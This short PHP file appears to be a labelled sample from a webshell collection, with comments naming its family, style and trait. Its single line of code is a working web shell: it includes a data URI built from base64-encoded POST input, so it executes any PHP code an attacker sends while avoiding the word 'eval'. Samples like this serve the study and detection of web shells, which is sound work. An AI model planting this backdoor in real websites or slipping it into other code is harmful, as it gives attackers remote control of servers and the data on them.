<?php
// Family: webshell/eval-request
// Style: include of a data URI built from request input
// Trait: include of data://text/plain;base64 plus request data, an eval without the word eval
include 'data://text/plain;base64,' . $_POST['inc'];
